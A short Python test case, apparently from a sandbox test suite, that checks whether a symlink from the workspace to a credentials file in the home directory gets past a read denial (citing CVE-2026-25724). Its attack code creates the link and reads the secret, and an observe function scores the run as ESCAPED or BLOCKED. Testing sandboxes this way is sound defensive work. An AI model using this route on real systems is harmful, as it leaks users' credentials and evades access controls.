"""A symbolic link past a read denial: credentials in a home directory read through the workspace (CVE-2026-25724)."""

CLASS = "workspace"
REQUIREMENT = "B6"
NEEDS = ("secret",)
CONTROL = """
os.symlink(HOST["secret_path"], WORK + "/notes.txt")
def read():
    say(text=open(WORK + "/notes.txt").read())
say(read=outcome(read))
"""
ATTACK = CONTROL


def observe(_, after):
    if after["leaked"]:
        return "ESCAPED", "the credentials were read"
    return "BLOCKED", f"read: {after['said'].get('read')}"
